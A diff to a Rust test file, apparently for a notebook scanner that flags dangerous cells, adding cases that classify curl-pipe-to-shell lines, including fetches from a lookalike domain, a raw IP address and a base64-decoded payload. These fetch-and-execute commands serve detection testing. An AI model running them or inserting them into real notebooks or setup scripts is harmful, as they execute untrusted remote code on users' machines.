@@ -71,7 +71,9 @@ fn notebooks_that_fetch_and_run_are_told() {
 fn a_known_installer_and_a_quoted_handler_are_less() {
     let dangers = |kind: &str, source: &str| list(&notebook(kind, &serde_json::json!(source), ""), DANGERS);
     assert_eq!(dangers("code", "!curl -LsSf https://astral.sh/uv/install.sh | sh"), ["installer"]);
-    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh.example.com/uv/install.sh | sh"), ["shell"]);
+    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh.example.com/uv/install.sh | sh"), ["script"]);
+    assert_eq!(dangers("code", "!curl -s https://203.0.113.9/install.sh | sh"), ["shell"]);
+    assert_eq!(dangers("code", "!curl -s https://x.example.com/a | base64 -d | sh"), ["shell"]);
     let both = "!curl -fsSL https://ollama.com/install.sh | sh\n!curl -s http://127.0.0.1/x | sh";
     assert_eq!(dangers("code", both), ["shell"]);
     for quiet in ["!echo y | bash setup.sh", "!curl -s https://example.org/x | python -m json.tool", "!crontab -l"] {
